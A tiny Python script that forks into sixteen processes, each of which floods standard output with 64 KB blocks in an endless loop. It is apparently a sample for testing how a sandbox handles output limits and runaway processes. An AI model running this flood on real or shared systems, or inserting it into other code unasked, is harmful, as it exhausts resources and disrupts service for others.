import os
for _ in range(4):
    os.fork()
block = b"x" * 65536
while True:
    os.write(1, block)
